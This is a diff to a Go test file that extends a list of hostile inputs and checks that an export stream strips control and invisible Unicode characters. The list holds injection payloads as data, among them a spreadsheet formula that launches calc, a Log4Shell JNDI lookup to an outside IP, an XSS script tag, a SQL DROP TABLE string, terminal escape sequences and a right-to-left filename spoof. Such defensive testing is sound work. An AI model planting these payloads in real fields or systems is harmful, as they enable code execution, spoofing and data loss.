@@ -21,6 +21,7 @@ import (
 var hostile = []string{
 	"uname -a", "=cmd|'/C calc'!A0", "\x1b]0;owned\x07\x1b[2J", "\u202egpj.exe", `"quoted", and 'so'`, "line\nfeed\r\nand\ttab",
 	"</script><script>alert(1)</script>", "\x00\xff\xfe", "{{7*7}}${jndi:ldap://203.0.113.9/a}", "|pipe\\back", "'; DROP TABLE ttp_tag; --", strings.Repeat("A", 5000), "\u2028\u2029", "",
+	"a\u061c\u200b\u200e\u200f\u2066b\u2069\ufeff \u0085\u009b31m \x7f c\u0301 \u3164\U000e0041",
 }
 
 // claims of one tactic, of several, of a sub-technique, and of one that the release before
@@ -171,7 +172,7 @@ func TestFormats(t *testing.T) {
 			none, path := exportTo(t, f, nil)
 			content(t, f, none, path)
 			if f.To == Stream {
-				for _, c := range []string{"\x1b", "\x00", "\xff", "\x07"} {
+				for _, c := range []string{"\x1b", "\x00", "\xff", "\x07", "\x7f", "\u0085", "\u009b", "\u061c", "\u200b", "\u200e", "\u200f", "\u202e", "\u2028", "\u2066", "\u2069", "\ufeff", "\u3164", "\U000e0041"} {
 					if strings.Contains(one, c) {
 						t.Errorf("%q comes out as it is", c)
 					}
